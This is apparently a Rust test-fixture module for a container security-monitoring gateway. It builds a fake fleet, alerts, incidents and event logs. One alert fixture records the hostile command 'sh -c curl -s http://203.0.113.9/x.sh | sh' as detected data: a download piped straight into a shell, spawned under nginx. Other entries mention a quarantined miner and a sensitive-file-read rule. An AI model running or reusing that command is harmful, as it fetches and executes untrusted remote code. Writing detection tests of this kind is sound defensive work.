//! A made-up fleet behind a real gateway.

use std::collections::BTreeMap;
use std::future::Future;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};

use crossbeam_channel::Receiver;
use hanabi_api::{
    Action, ApiLimits, App, AppParts, Command, ContainerRow, EngineRequest, Fleet, Grafana,
    IngestTotals, Live, NewToken, Order, Refused, Security, SecurityOptions, SourceStatus,
    StreamHub, StreamLimits, WAITING_FOR_RESTORE, engine_channel, serve,
};
use hanabi_detect::{Alert, Incident, Quarantined};
use hanabi_event::{Category, EventTime, Priority, SECOND};
use hanabi_ingest::{Batch, Intake, IntakeOptions};
use hanabi_outputs::Outputs;
use hanabi_profile::{
    Addition, BranchProgress, Learning, Phase, ProfileSummary, RevisionDiff, TreeNode,
};
use hanabi_series::{Labels, SeriesStore, StoreOptions as SeriesOptions};
use hanabi_store::{EventLog, LogOptions, LogRow, Store, StoreOptions};
use hanabi_telemetry::{Exporter, ExporterOptions, Metrics};
use serde_json::{Value, json};
use tokio::net::TcpListener;

/// The fleet's "now".
pub(crate) const NOW: EventTime = 1_763_800_000 * SECOND;

/// What a test may set.
pub(crate) struct Setup {
    pub(crate) limits: ApiLimits,
    pub(crate) stream: StreamLimits,
    pub(crate) intake: IntakeOptions,
    pub(crate) allowed_hosts: Vec<String>,
    pub(crate) grafana: Option<Grafana>,
    pub(crate) remote_write: bool,
    pub(crate) outputs: Outputs,
    pub(crate) security: SecurityOptions,
    /// Tokens that are there from the beginning.
    pub(crate) tokens: Vec<NewToken>,
}

impl Default for Setup {
    fn default() -> Self {
        Self {
            limits: ApiLimits::default(),
            stream: StreamLimits::default(),
            intake: IntakeOptions::default(),
            allowed_hosts: vec!["hanabi.example".into()],
            grafana: None,
            remote_write: false,
            outputs: Outputs::default(),
            security: SecurityOptions::default(),
            tokens: Vec::new(),
        }
    }
}

/// A running gateway and the engine's side of it.
pub(crate) struct World {
    pub(crate) addr: SocketAddr,
    pub(crate) live: Arc<Live>,
    pub(crate) hub: StreamHub,
    pub(crate) store: Arc<Store>,
    pub(crate) log: Arc<EventLog>,
    pub(crate) queue: Receiver<Batch>,
    /// What the engine was asked to change.
    pub(crate) orders: Arc<Mutex<Vec<Order>>>,
    /// Tokens by their names.
    pub(crate) tokens: BTreeMap<String, String>,
    _dir: tempfile::TempDir,
}

impl World {
    /// On any port, until the test ends.
    pub(crate) async fn start(setup: Setup) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let (world, run) = Self::build(listener, setup, std::future::pending());
        tokio::spawn(run);
        world
    }

    /// On a listener, until `shutdown`.
    pub(crate) fn build(
        listener: TcpListener,
        setup: Setup,
        shutdown: impl Future<Output = ()>,
    ) -> (Self, impl Future<Output = ()>) {
        let dir = tempfile::tempdir().unwrap();
        let addr = listener.local_addr().unwrap();
        let live = Live::new();
        let hub = StreamHub::new("boot", setup.stream);
        let store = Arc::new(Store::open(dir.path(), StoreOptions::default()).unwrap());
        let log = Arc::new(EventLog::open(dir.path(), LogOptions::default()).unwrap());
        let (intake, queue) = Intake::new(setup.intake, None);
        let exporter = Exporter::new(&ExporterOptions::default(), Metrics::new(), "0.0.0", NOW);
        let (engine, mut requests) = engine_channel();
        let orders = Arc::new(Mutex::new(Vec::new()));
        let taken = orders.clone();
        std::thread::spawn(move || {
            while let Some(request) = requests.blocking_recv() {
                engine_answers(request, &taken);
            }
        });
        let mut tokens = BTreeMap::new();
        for new in &setup.tokens {
            let (secret, stored) = new.make("test", NOW).unwrap();
            store.put_token(&stored, None).unwrap();
            tokens.insert(new.name.clone(), secret);
        }
        let security = Security::new(setup.security, &store).unwrap();
        let series = series(dir.path());
        let app = App::new(AppParts {
            live: live.clone(),
            hub: hub.clone(),
            engine,
            store: store.clone(),
            log: log.clone(),
            room: hanabi_api::Room::Embedded(Arc::clone(&series), hanabi_series::Edges::default()),
            receiver: setup.remote_write.then_some(series),
            intake,
            outputs: setup.outputs,
            exporter,
            config: json!({ "listen": "127.0.0.1:8000", "tokens": "redacted" }),
            listen: addr,
            allowed_hosts: setup.allowed_hosts,
            grafana: setup.grafana,
            security,
            access_log: false,
            limits: setup.limits,
        });
        let run = serve(listener, app, shutdown);
        (Self { addr, live, hub, store, log, queue, orders, tokens, _dir: dir }, run)
    }

    /// Publishes the fleet, its alerts and events, and is ready.
    pub(crate) fn fill(&self) {
        self.live.publish_fleet(fleet());
        self.live.with_overview(|stats| {
            let now = NOW / SECOND;
            for back in 0..600 {
                let n = 40 + (back * 7) % 23;
                let rule = "Hanabi catch-all";
                stats.add(now - back, Category::File, Priority::Debug, rule, "web", n);
                stats.add(now - back, Category::Network, Priority::Debug, rule, "db", n / 2);
            }
            stats.add(now, Category::Process, Priority::Warning, "Shell in container", "web", 2);
        });
        let alerts: Vec<Alert> = alerts();
        self.store.put_alerts(&alerts).unwrap();
        self.store.put_snapshot("h1:web", NOW - 100 * SECOND, &tree()).unwrap();
        self.store.put_snapshot("h1:db", NOW - 200 * SECOND, &tree()).unwrap();
        self.log.append(10, rows());
        self.log.flush().unwrap();
        self.live.put_incidents(vec![Arc::new(incident(&alerts))]);
        self.live.done(WAITING_FOR_RESTORE);
    }
}

/// An engine that has one profile and one alert, and does what it is told.
fn engine_answers(request: EngineRequest, orders: &Mutex<Vec<Order>>) {
    // A client that has gone away is nothing to the engine.
    match request {
        EngineRequest::Snapshot { identity, reply } => {
            reply.send((identity == "h1:web").then(tree)).ok();
        }
        EngineRequest::Quarantine { identity, reply } => {
            let item = Quarantined {
                rule: "miner".into(),
                what: "/tmp/x".into(),
                slots: 2,
                ..Quarantined::default()
            };
            reply.send((identity == "h1:web").then(|| vec![("k1".into(), item)])).ok();
        }
        EngineRequest::Order { order, reply } => {
            let answer = match &order.command {
                Command::Alert { id, .. } if id != "00000000000000a1" => {
                    Err(Refused::NotFound { what: "alert", id: id.clone() })
                }
                Command::Alert { action: Action::Undo, .. } => {
                    Err(Refused::Conflict { reason: "nothing to undo".into() })
                }
                Command::Profile { identity, .. } if identity == "h1:db" => {
                    Err(Refused::Failed { context: "secret detail".into() })
                }
                Command::Rollback { .. } => Ok(json!({ "dry_run": order.dry_run, "identity": "",
                    "phase": "detecting", "to": null, "reason": "daily", "revision": "",
                    "nodes_before": 1, "nodes_after": 1, "brought_back": [], "given_up": [],
                    "left_out": 0, "undo": null })),
                Command::Source { id, .. } => Ok(json!({ "dry_run": order.dry_run,
                        "source": { "id": id, "state": "paused", "detail": "" } })),
                _ => Ok(json!({ "dry_run": order.dry_run, "alerts": 1, "done": 1, "refused": [],
                    "alert": {}, "suppression": {}, "maintenance": {}, "identity": "", "phase": "" })),
            };
            orders.lock().unwrap().push(order);
            reply.send(answer).ok();
        }
    }
}

pub(crate) const WEB: &str = "aaaaaaaaaaaa";
pub(crate) const DB: &str = "bbbbbbbbbbbb";

fn row(id: &str, name: &str, host: &str, phase: Phase, progress: f64) -> ContainerRow {
    let waiting_for: Vec<String> = match phase {
        Phase::Warmup => vec!["min_time".into(), "min_events".into()],
        Phase::Learning => vec!["novelty:file".into()],
        _ => Vec::new(),
    };
    ContainerRow {
        id: id.into(),
        short_id: id.chars().take(12).collect(),
        name: name.into(),
        image: format!("shop/{name}:1.4.2"),
        repository: format!("shop/{name}"),
        tag: "1.4.2".into(),
        host: host.into(),
        namespace: String::new(),
        pod: String::new(),
        identity: format!("{host}:{name}"),
        phase,
        learning: Learning {
            progress,
            waiting_for,
            branches: vec![BranchProgress {
                branch: "file".into(),
                events: 5_120,
                paths: 240,
                singletons: 3,
                incidences: 2_100,
                unseen: 0.006,
            }],
            partial: false,
        },
        events: 48_210,
        events_per_second: progress * 1.7,
        first_event: NOW - 3_600 * SECOND,
        last_event: NOW - 2 * SECOND,
        open_alerts: BTreeMap::new(),
    }
}

/// Six containers; two of one name on two hosts, and two replicas of one profile.
pub(crate) fn fleet() -> Fleet {
    let mut web = row(WEB, "web", "h1", Phase::Detecting, 100.0);
    web.open_alerts = BTreeMap::from([(Priority::Critical, 1), (Priority::Warning, 2)]);
    let db = row(DB, "db", "h1", Phase::Learning, 71.0);
    let queue = row("cccccccccccc", "queue", "h1", Phase::Warmup, 18.0);
    let other_web = row("dddddddddddd", "web", "h2", Phase::Detecting, 100.0);
    let mut replica = row("eeeeeeeeeeee", "api", "h1", Phase::Relearning, 100.0);
    replica.identity = "shop:api:main".into();
    replica.namespace = "shop".into();
    let second = ContainerRow { id: "ffffffffffff".into(), ..replica.clone() };
    let second = ContainerRow { short_id: second.id.clone(), ..second };
    let profile = |identity: &str, phase| ProfileSummary {
        identity: identity.into(),
        phase,
        nodes: 412,
        events: 48_210,
        deviations: 3,
        first_seen: NOW - 3_600 * SECOND,
        last_seen: NOW - 2 * SECOND,
        revisions: vec!["shop/web:1.4.2".into()],
        diffs: vec![RevisionDiff {
            image: "shop/web:1.4.2".into(),
            parent: "shop/web:1.4.1".into(),
            additions: vec![Addition {
                kind: "new_file".into(),
                process: "node".into(),
                token: "/app/lib/money.js".into(),
                count: 3,
                first_seen: 1_795_337_700_000_000_000,
            }],
            additions_total: 1,
            ..RevisionDiff::default()
        }],
        ..ProfileSummary::default()
    };
    Fleet {
        generated: NOW,
        containers: vec![web, db, queue, other_web, replica, second],
        profiles: vec![
            profile("h1:web", Phase::Detecting),
            profile("h1:db", Phase::Learning),
            profile("h1:gone", Phase::Frozen),
        ],
        totals: IngestTotals {
            received: 204_731,
            modelled: 151_204,
            pending: 12,
            ignored: BTreeMap::from([("enter".into(), 52_300), ("duplicate".into(), 1_208)]),
            rejected: BTreeMap::from([("not_json".into(), 7)]),
            dropped: BTreeMap::new(),
        },
        sources: vec![SourceStatus {
            id: "http".into(),
            kind: "http".into(),
            state: "running".into(),
            received: 204_731,
            bytes: 317_000_000,
            last_event: NOW - 2 * SECOND,
            ..SourceStatus::default()
        }],
    }
}

/// A small tree.
pub(crate) fn tree() -> TreeNode {
    let tree = json!({
        "name": "h1:web", "type": "root", "events_count": 9, "metadata": {}, "children": {
            "process_branch": { "name": "process_branch", "type": "branch", "events_count": 5,
                "metadata": {}, "children": {
                "execve": { "name": "execve", "type": "process_operation", "events_count": 5,
                    "metadata": {}, "children": {
                    "nginx": { "name": "nginx", "type": "process_name", "events_count": 5,
                        "metadata": {}, "children": {
                        "cmd_argument:-g": { "name": "-g", "type": "cmd_argument",
                            "events_count": 5, "metadata": {}, "children": {} }
                    } } } } } },
            "file_branch": { "name": "file_branch", "type": "branch", "events_count": 4,
                "metadata": {}, "children": {
                "openat": { "name": "openat", "type": "file_operation", "events_count": 4,
                    "metadata": {}, "children": {} } } }
        }
    });
    serde_json::from_value(tree).unwrap()
}

/// One alert, from its JSON with changes.
pub(crate) fn alert(changes: &Value) -> Alert {
    let text = hanabi_event::time::format_time;
    let mut alert = json!({
        "id": "00000000000000a1", "fingerprint": "00000000000000f1", "state": "open",
        "source": "hanabi", "rule": "hbt.new_process", "priority": "Critical", "score": 0.94,
        "score_parts": [{ "name": "distance", "value": 0.92 }, { "name": "sensitivity", "value": 0.9 }],
        "host": "h1", "identity": "h1:web",
        "container": { "id": WEB, "name": "web", "host": "h1", "pod": "", "image": "shop/web:1.4.2",
            "count": 4, "last_seen": text(NOW - 5 * SECOND) },
        "containers": [], "containers_total": 1, "k8s": { "namespace": "", "pod": "" },
        "kind": "new_process",
        "path": { "learned": ["process_branch", "execve"], "token": "sh",
            "raw": "sh -c curl -s http://203.0.113.9/x.sh | sh" },
        "expected": [{ "token": "nginx", "count": 4812 }, { "token": "logrotate", "count": 12 }],
        "nearest": { "token": "nginx", "similarity": 0.08, "threshold": 0.8 },
        "evidence": [{ "kind": "new_peer", "process": "curl", "token": "<ip:public>:80",
            "score": 0.8, "count": 2 }],
        "lineage": [
            { "name": "nginx", "executable": "/usr/sbin/nginx", "command_line": "nginx: worker process", "pid": 3120 },
            { "name": "sh", "executable": "/bin/dash", "command_line": "sh -c curl -s http://203.0.113.9/x.sh | sh", "pid": 4711 }
        ],
        "mitre": ["T1059.004"], "count": 4,
        "first_seen": text(NOW - 60 * SECOND), "last_seen": text(NOW - 5 * SECOND),
        "activity": [], "phase": "detecting", "incident": "00000000000000e1", "samples": [],
        "summary": {
            "en": "nginx started a shell, sh, which web has never run before",
            "zh": "nginx 启动了 web 从未运行过的 shell：sh"
        },
        "assignee": "", "history": []
    });
    if let (Some(alert), Some(changes)) = (alert.as_object_mut(), changes.as_object()) {
        alert.extend(changes.clone());
    }
    serde_json::from_value(alert).unwrap()
}

/// What the store begins with.
pub(crate) fn alerts() -> Vec<Alert> {
    let time = |back: u64| hanabi_event::time::format_time(NOW - back * SECOND);
    vec![
        alert(&json!({})),
        alert(&json!({
            "id": "00000000000000a2", "fingerprint": "00000000000000f2", "priority": "Warning",
            "rule": "hbt.new_peer", "kind": "new_peer", "score": 0.61, "count": 31,
            "first_seen": time(400), "last_seen": time(20),
            "path": { "learned": ["network_branch", "connect", "nginx"], "token": "<ip:public>:443",
                "raw": "10.0.3.17:51844->198.51.100.7:443" },
            "expected": [{ "token": "<ip:private>:5432", "count": 920 }],
            "nearest": { "token": "<ip:private>:5432", "similarity": 0.41, "threshold": 0.8 },
            "evidence": [], "mitre": ["T1071"],
            "summary": { "en": "nginx connected to a public address for the first time",
                "zh": "nginx 首次连接公网地址" }
        })),
        alert(&json!({
            "id": "00000000000000a3", "fingerprint": "00000000000000f3", "priority": "Notice",
            "source": "falco", "rule": "Read sensitive file untrusted", "kind": "rule",
            "state": "acknowledged", "score": 0.4, "identity": "h1:db", "count": 2,
            "container": { "id": DB, "name": "db", "host": "h1", "pod": "", "image": "shop/db:16",
                "count": 2, "last_seen": time(900) },
            "first_seen": time(1_000), "last_seen": time(900),
            "path": { "learned": [], "token": "", "raw": "" }, "expected": [], "nearest": null,
            "evidence": [], "lineage": [], "mitre": ["T1555"],
            "summary": { "en": "Falco rule: Read sensitive file untrusted",
                "zh": "Falco 规则：Read sensitive file untrusted" }
        })),
    ]
}

pub(crate) fn incident(alerts: &[Alert]) -> Incident {
    Incident {
        id: "00000000000000e1".into(),
        identity: "h1:web".into(),
        container: alerts[0].container.clone(),
        priority: Priority::Critical,
        alerts: alerts.iter().take(2).map(|alert| alert.id.clone()).collect(),
        alerts_total: 2,
        count: 35,
        first_seen: NOW - 400 * SECOND,
        last_seen: NOW - 5 * SECOND,
        summary: alerts[0].summary.clone(),
    }
}

pub(crate) fn rows() -> Vec<LogRow> {
    let row = |back: u64, id: &str, name: &str, priority, category| LogRow {
        time: NOW - back * SECOND,
        container_id: id.into(),
        container_name: name.into(),
        identity: format!("h1:{name}"),
        host: "h1".into(),
        category,
        priority,
        rule: "Hanabi catch-all".into(),
        call: "openat".into(),
        process: "nginx".into(),
        command_line: "nginx: worker process".into(),
        object: format!("/var/log/{back}"),
        outcome: "ok".into(),
        count: 1,
        deviation: None,
        raw: Some(json!({ "evt.type": "openat" })),
    };
    vec![
        row(30, WEB, "web", Priority::Debug, Category::File),
        row(20, WEB, "web", Priority::Warning, Category::Process),
        row(15, DB, "db", Priority::Debug, Category::File),
        row(10, WEB, "web", Priority::Debug, Category::Network),
    ]
}

/// An hour of one counter and one gauge, up to [`NOW`].
fn series(dir: &std::path::Path) -> Arc<SeriesStore> {
    let store = SeriesStore::open(dir, SeriesOptions::default()).unwrap();
    let now = (NOW / 1_000_000) as i64;
    let labels = |name: &str| Labels::new([("__name__", name), ("job", "hanabi")]);
    for back in (0..240).rev() {
        let (time, n) = (now - back * 15_000, (240 - back) as f64);
        let values = [(labels("events_total"), n * 30.0), (labels("open_alerts"), n % 7.0)];
        assert_eq!(store.append_scrape(time, &values).taken, 2);
    }
    Arc::new(store)
}
